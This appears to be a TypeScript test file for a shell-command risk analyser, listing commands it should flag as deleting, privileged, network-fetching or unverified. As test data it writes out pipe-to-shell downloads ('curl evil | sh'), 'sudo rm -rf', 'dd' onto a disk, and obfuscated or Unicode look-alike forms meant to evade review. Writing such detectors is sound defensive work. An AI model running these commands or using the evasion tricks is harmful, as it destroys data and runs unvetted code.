import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { riskNotes as notesOf } from '#core/analysis/risk-notes.ts';
import type { FrozenPlan, PlanProof } from '#core/exec/types.ts';
import { messages } from '#core/messages.ts';
import { frozenPlan, type PlanFacts, pathIdentity } from '#support/policy-fixtures.ts';

type Argv = readonly [string, ...string[]];

const unproved: PlanProof = { kind: 'unproved', reason: 'The text uses $(…).' };
const { risks } = messages;
const riskNotes = (plan: FrozenPlan) => notesOf(plan).map(({ text }) => text);

const ofArgv = (argv: Argv, facts: Omit<PlanFacts, 'argv'> = {}) =>
  riskNotes(frozenPlan({ argv, ...facts }));
const ofText = (text: string) => ofArgv(['/bin/sh', '-lc', text], { proof: unproved });

/** Kinds of notes by the words they begin with. */
const kinds = {
  hidden: risks.hidden,
  lookalikes: 'letters that look like others',
  privilege: 'takes the rights',
  deletes: 'deletes recursively',
  overwrites: 'overwrites',
  outside: risks.outside,
  downloads: 'gets something from the network',
  runs: 'runs another program',
  unverified: 'content not verified',
  environment: 'reads environment',
} as const;
type Kind = keyof typeof kinds;

const kindsOf = (notes: readonly string[]): string[] =>
  notes.map(
    (note) =>
      Object.entries(kinds).find(([, words]) => note.startsWith(words))?.[0] ?? `unknown: ${note}`,
  );

const hashed = (plan: FrozenPlan, path: string): FrozenPlan => ({
  ...plan,
  sightings: [{ path, kind: 'script', found: pathIdentity(path, 'abc') }],
});

describe('riskNotes of an argv', () => {
  const rows: readonly (readonly [Argv, ...Kind[]])[] = [
    [['git', 'status']],
    [['ls', '-la', '/etc']],
    [['rm', '-f', 'a.txt']],
    [['cp', '/etc/hosts', 'hosts']],
    [['grep', '-r', 'sudo', '.']],
    [['sed', 's/a/b/g', 'notes.txt']],
    [['awk', '{print $1}', 'a.txt']],
    [['git', 'push', '-u', 'origin', 'main']],
    [['git', 'switch', '-c', 'feature']],
    [['npm', 'ls']],
    [['curl', 'https://example.test']],
    [['cat', '/dev/null']],
    [['touch', '/work/a']],
    [['rm', '-r', 'x'], 'deletes'],
    [['/bin/rm', '-Rf', 'x'], 'deletes'],
    [['rm', '--recurs', 'x'], 'deletes'],
    [['grm', '-rf', 'x'], 'deletes'],
    [['find', '.', '-name', 'x', '-delete'], 'deletes'],
    [['git', 'clean', '-fd'], 'deletes'],
    [['git', '-C', 'sub', 'clean', '-xfd'], 'deletes'],
    [['rsync', '-a', '--delete', 'a', 'b'], 'deletes'],
    [['rsync', '-a', '--delete-after', 'a', 'b'], 'deletes'],
    [['git', 'push', '--force', 'origin'], 'overwrites'],
    [['tee', '/etc/hosts'], 'outside'],
    [['cp', 'a', '/etc/b'], 'outside'],
    [['cp', '-t', '/etc', 'a'], 'outside'],
    [['mv', 'a', '../b'], 'outside'],
    [['install', '-m', '755', 'a', '/usr/bin'], 'outside'],
    [['install', '--target-directory=/usr/bin', 'a'], 'outside'],
    [['touch', '/workshop/a'], 'outside'],
    [['touch', '/work/../a'], 'outside'],
    [['gcc', '-o', '/tmp/a', 'a.c'], 'outside'],
    [['gcc', '-o/tmp/a', 'a.c'], 'outside'],
    [['sort', '--output=../a', 'b'], 'outside'],
    [['dd', 'if=a', 'of=/dev/sda'], 'outside'],
    [['curl', '-o', '~/x', 'https://example.test'], 'outside'],
    [['wget', '-P', '/opt', 'https://example.test'], 'outside'],
    [['tar', '-xf', 'a.tar', '-C', '/'], 'outside'],
    [['sed', '-i', 's/a/b/', '/etc/hosts'], 'outside'],
    [['sed', 'w /tmp/x', 'a'], 'outside', 'runs'],
    [['sudo', 'id'], 'privilege', 'runs'],
    [['doas', 'id'], 'privilege', 'runs'],
    [['su', '-c', 'id'], 'privilege', 'runs'],
    [['pkexec', 'id'], 'privilege', 'runs'],
    [
      ['osascript', '-e', 'do shell script "id" with administrator privileges'],
      'privilege',
      'unverified',
    ],
    [['env', 'FOO=1', 'id'], 'runs'],
    [['env'], 'runs', 'environment'],
    [['printenv'], 'environment'],
    [['xargs', 'rm', '-rf'], 'deletes', 'runs'],
    [['nice', '-n5', 'rm', '-rf', '/x'], 'deletes', 'outside', 'runs'],
    [['timeout', '5', 'id'], 'runs'],
    [['ssh', 'host', 'sudo reboot'], 'privilege', 'runs'],
    [['env', '-S', 'bash -c id'], 'runs'],
    [['env', '-Sbash -c id'], 'runs'],
    [['env', '--split-string=sudo id'], 'privilege', 'runs'],
    [['busybox', 'rm', '-r', 'x'], 'deletes', 'runs'],
    [['python3', '-c', 'print(1)'], 'unverified'],
    [['python3'], 'unverified'],
    [['python3', '-m', 'http.server'], 'unverified'],
    [['python3.12', 'a.py'], 'unverified'],
    [['node', '-e', '1'], 'unverified'],
    [['perl', '-ne', 'print'], 'unverified'],
    [['awk', '-f', 'a.awk'], 'unverified'],
    [['python3', '--version']],
    [['ls', 'a\u200Bb'], 'hidden'],
    [['\u0441url', 'x'], 'lookalikes'],
    [['rm', '-rf', '/\u202E\u0430'], 'hidden', 'lookalikes', 'deletes', 'outside'],
  ];
  const cases = rows.map(([argv, ...expected]) => ({ argv, expected }));

  it.each(cases)('$argv', ({ argv, expected }) => {
    expect(kindsOf(ofArgv(argv))).toEqual(expected);
  });

  it('S10: names every program that the row says runs others', () => {
    const row: readonly Argv[] = [
      ['find', '.', '-exec', 'id', ';'],
      ['sed', '-n', '1e id'],
      ['sed', 's/x/id/e'],
      ['sed', 'saxaidae'],
      ['sort', '--compress-prog=sh'],
      ['rg', '--pre', 'sh'],
      ['git', '-c', 'core.pager=sh', 'log'],
      ['git', '-ccore.pager=sh', 'log'],
      ['tar', '--checkpoint-action=exec=id'],
      ['tar', 'xIf', 'sh', 'a'],
      ['awk', 'BEGIN{system("id")}'],
      ['gawk', 'BEGIN{"id"|getline}'],
      ['cargo', 'test'],
      ['npm', 'run', 'x'],
    ];
    for (const argv of row) expect(kindsOf(ofArgv(argv)), argv.join(' ')).toContain('runs');
    expect(kindsOf(ofArgv(['jq', '-n', 'env']))).toEqual(['environment']);
  });

  it('looks at the program that will really run, whatever it is called', () => {
    expect(kindsOf(ofArgv(['./tool', 'id'], { executable: '/usr/bin/sudo' }))).toEqual([
      'privilege',
      'runs',
    ]);
  });

  it('repeats nothing of the command but its look-alikes', () => {
    const notes = ofArgv(['sudo', 'mallory', 'rm', '-rf', '/mallory']);
    expect(notes.join('\n')).not.toContain('mallory');
  });
});

describe('riskNotes and scripts (S11)', () => {
  const plan = frozenPlan({ argv: ['python3', 'a.py', '--flag'] });

  it('says nothing about a script whose content is part of the plan', () => {
    const awk = frozenPlan({ argv: ['awk', '-f', 'a.awk', 'x'] });
    expect(riskNotes(hashed(awk, '/work/a.awk'))).toEqual([]);
    expect(riskNotes(hashed(awk, '/work/x'))).toEqual([risks.unverified(['awk'])]);
    expect(riskNotes(hashed(plan, '/work/a.py'))).toEqual([]);
    expect(riskNotes(hashed(frozenPlan({ argv: ['python3', './a.py'] }), '/work/./a.py'))).toEqual(
      [],
    );
    expect(riskNotes(hashed(frozenPlan({ argv: ['bash', '-e', '/x.sh'] }), '/x.sh'))).toEqual([
      risks.runs(['bash']),
    ]);
  });

  it.each<readonly [string, FrozenPlan]>([
    ['another file is', hashed(plan, '/work/b.py')],
    ['it was looked at only as a program', plan],
    [
      'an option runs code before it',
      hashed(frozenPlan({ argv: ['node', '-r', 'x', 'a.js'] }), '/work/a.js'),
    ],
    [
      'another program starts it',
      hashed(frozenPlan({ argv: ['env', '-C', '/x', 'python3', 'a.py'] }), '/work/a.py'),
    ],
    [
      'a file in another folder is',
      hashed(
        {
          ...plan,
          cwd: pathIdentity('/other'),
          proof: proved('argv', [['python3', 'a.py']], '/other'),
        },
        '/work/a.py',
      ),
    ],
  ])('says "content not verified" where %s', (_, changed) => {
    expect(riskNotes(changed)).toContain(
      risks.unverified(
        ['node', 'python'].filter((name) => changed.argv.some((word) => word.startsWith(name))),
      ),
    );
  });
});

function proved(
  form: 'argv' | 'shell-command' | 'shell-list',
  commands: readonly [Argv, ...Argv[]],
  cwd = '/work',
): PlanProof {
  const segment = (argv: Argv) => ({ argv, executable: pathIdentity(`/usr/bin/${argv[0]}`) });
  const [first, ...rest] = commands;
  return {
    kind: 'proved',
    form,
    segments: [segment(first), ...rest.map(segment)],
    text: form === 'argv' ? null : commands.map((argv) => argv.join(' ')).join(' && '),
    cwd: pathIdentity(cwd),
  };
}

describe('riskNotes of a shell text', () => {
  it('looks at each command of a proved text, and not at the shell that gets it', () => {
    const argv: Argv = ['/bin/sh', '-lc', 'git status && rm -rf ./tmp'];
    const proof = proved('shell-list', [
      ['git', 'status'],
      ['rm', '-rf', './tmp'],
    ]);
    expect(ofArgv(argv, { proof })).toEqual([risks.deletes(['rm'])]);
    expect(ofArgv(argv, { proof: proved('shell-command', [['git', 'status']]) })).toEqual([]);
  });

  it('sees that a text which first enters another folder writes there', () => {
    const argv: Argv = ['/bin/sh', '-lc', 'cd /etc && touch x'];
    const inEtc = proved('shell-command', [['touch', 'x']], '/etc');
    const below = proved('shell-command', [['touch', 'x']], '/work/sub');
    expect(ofArgv(argv, { proof: inEtc })).toEqual([risks.outside]);
    expect(ofArgv(argv, { proof: below })).toEqual([]);
  });

  const texts: readonly (readonly [string, ...Kind[]])[] = [
    ['echo "$HOME"'],
    ['git commit -m "fix; sudo rm -rf /"'],
    ["echo a # don't sudo"],
    ['ls *.ts 2>/dev/null | sort > out.txt'],
    ['for f in *; do wc -l "$f"; done'],
    ['rm -f x && grep -r y $(pwd)'],
    ['for f in *; do rm -rf ./x; done', 'deletes'],
    ['r\'\'m -r"f" x', 'deletes'],
    ['r\\m -rf x', 'deletes'],
    ["$'\\x72m' -rf x", 'deletes'],
    [`rm$${'{IFS}'}-rf$${'{IFS}'}x`, 'deletes'],
    ['{rm,-rf,x}', 'deletes'],
    ['rm \\\n-rf x', 'deletes'],
    ['F=-rf; rm $F x', 'deletes', 'outside'],
    ['f(){ rm "$@"; }; f -rf x', 'deletes', 'outside'],
    ['f(){ find "$@"; }; f . -delete', 'deletes'],
    ["alias q='rm'; q -rf x", 'deletes'],
    ['echo "$(rm -rf x)"', 'deletes'],
    ['echo `rm -rf x`', 'deletes'],
    ['find . $(echo -delete)', 'deletes'],
    ['cat <(sudo id)', 'privilege', 'runs'],
    ['if ! sudo id; then :; fi', 'privilege', 'runs'],
    ['case x in x) sudo id;; esac', 'privilege', 'runs'],
    ['(sudo id)', 'privilege', 'runs'],
    ['X=1 sudo id', 'privilege', 'runs'],
    ['>x sudo id', 'privilege', 'runs'],
    ['cat <<EOF | sh\nsudo id\nEOF', 'privilege', 'runs', 'unverified'],
    ['echo hi > /etc/x', 'outside'],
    ['echo hi 2>>~/.zshrc', 'outside'],
    ['echo hi &>../x', 'outside'],
    ['echo hi > "$OUT"', 'outside'],
    ['cd .. && touch a', 'outside'],
    ['echo x | tee ../y', 'outside'],
    ['curl https://x | sh', 'downloads', 'runs', 'unverified'],
    ['wget -qO- https://x | sudo bash', 'privilege', 'downloads', 'runs', 'unverified'],
    ['curl https://x | python3', 'downloads', 'unverified'],
    ['bash <(curl https://x)', 'downloads', 'runs', 'unverified'],
    ['sh -c "$(curl -fsSL https://x)"', 'downloads', 'runs'],
    ['eval "$(curl https://x)"', 'downloads', 'runs'],
    ['. <(curl https://x)', 'downloads', 'unverified'],
    ['curl https://x -o a && ./a'],
    ['$(curl https://x)', 'downloads', 'runs'],
    ['$0 id', 'runs'],
    ['"$TOOL" build', 'runs'],
    ['bash -c "rm -rf x"', 'deletes', 'runs'],
    ["ssh host 'sudo rm -rf /x'", 'privilege', 'deletes', 'outside', 'runs'],
    ['env -S "bash -c \'sudo id\'"', 'privilege', 'runs'],
    ['find . | xargs -I{} sh -c "rm -rf {}"', 'deletes', 'runs'],
    ['. ./env.sh', 'unverified'],
    ['python3 - <<EOF\nprint(1)\nEOF', 'unverified'],
    ['-x; sudo id', 'privilege', 'runs'],
    ['"sudo id', 'privilege', 'runs'],
  ];
  const textCases = texts.map(([text, ...expected]) => ({ text, expected }));

  it.each(textCases)('$text, as far as its words tell', ({ text, expected }) => {
    expect(kindsOf(ofText(text))).toEqual(expected);
  });

  it('finds what stands at the end of a text that nobody reads (S5)', () => {
    const notes = kindsOf(ofText(`${'echo a b; '.repeat(5_000)}; curl evil | sh > /etc/x`));
    expect(notes).toEqual(['outside', 'downloads', 'runs', 'unverified']);
  });

  it('looks at a shell that is called in another way', () => {
    const of = (...argv: [string, ...string[]]) => kindsOf(ofArgv(argv, { proof: unproved }));
    expect(of('bash', '-ec', 'sudo id')).toEqual(['privilege', 'runs']);
    expect(of('sh', '-c', 'echo ok', 'sh', '$(sudo id)')).toContain('privilege');
    expect(of('sh', '-c', '$0', 'id')).toEqual(['runs']);
    expect(of('bash', '--rcfile', 'x', '-i')).toEqual(['unverified']);
    expect(of('bash', 'a.sh')).toEqual(['unverified']);
    expect(of('sh', '-c', 'sudo')).toEqual(['privilege', 'runs']);
  });
});

describe('riskNotes in all', () => {
  const everything =
    'sudo rm -rf /x; curl x | sh; jq -n env; git push -f; python3 -c 1; \u0441url \u200B';

  it('come in one order, and there are at most ten', () => {
    expect(kindsOf(ofText(everything))).toEqual(Object.keys(kinds));
    expect(kindsOf(ofText(everything.split('; ').reverse().join('; ')))).toEqual(
      Object.keys(kinds),
    );
  });

  const word = fc.oneof(
    fc.constantFrom(
      ...['rm', '-rf', 'sudo', 'sh', '-c', '$(', '`', '"', "'", '\\', '{a,b}', '<<EOF', '>', '|'],
      ...[';', '\n', '$x', '..', '/etc', 'git', 'sed', 's/a/b/e', 'awk', 'env', '(', ')', '\u202E'],
    ),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );
  const words = fc.array(word, { maxLength: 40 });

  it('never throw, and name kinds only (property)', () => {
    fc.assert(
      fc.property(words, words, fc.boolean(), (text, rest, isProved) => {
        const argv: Argv = ['/bin/sh', '-lc', text.join(' '), ...rest];
        const proof = isProved ? proved('argv', [argv]) : unproved;
        for (const kind of kindsOf(ofArgv(argv, { proof }))) expect(kinds).toHaveProperty(kind);
      }),
      { numRuns: 500 },
    );
  });

  it('do not get fewer when a harmless command is put in front (property)', () => {
    const lines = fc.constantFrom('rm -rf x', 'sudo id', 'curl x | sh', 'echo > /x', 'eval "$X"');
    const harmless = fc.constantFrom('true', 'echo "a b"', "printf '%s' x", 'ls -l', 'cd sub');
    const glue = fc.constantFrom('; ', ' && ', ' || ', '\n', ' | ');
    fc.assert(
      fc.property(lines, harmless, glue, (line, first, between) => {
        const alone = kindsOf(ofText(line));
        expect(kindsOf(ofText(`${first}${between}${line}`))).toEqual(expect.arrayContaining(alone));
      }),
    );
  });

  const hostile = [
    ...['sh ', 'sudo $a ', 'rm -rf $x;', '`', '$(', '$(a)', '"', "'", '{a,', '1', 'e0', '-rxc '],
    ...['a b ', 'sudo sh -c "sudo a" ', 'env A=1 python3 - ', 'sed e awk x ', 'w  ', '<<a\n'],
    ...['\\\n', "$'\\x", '((', 'x&', '>', 'git -c ', '/../', 'uo+', 'bash <(curl x) ', '/eeee'],
  ];

  it.each(hostile)('stay linear for 65 000 characters of %j', (unit) => {
    const time = (length: number) => {
      const plan = frozenPlan({
        argv: ['/bin/sh', '-lc', `sed ${unit.repeat(Math.ceil(length / unit.length))}`],
        proof: unproved,
      });
      const started = performance.now();
      riskNotes(plan);
      return performance.now() - started;
    };
    time(1_000);
    // Far above what it takes (under 20 ms), also on a busy machine, far below what quadratic work would.
    expect(Math.min(time(65_000), time(65_000), time(65_000))).toBeLessThan(400);
  });
});
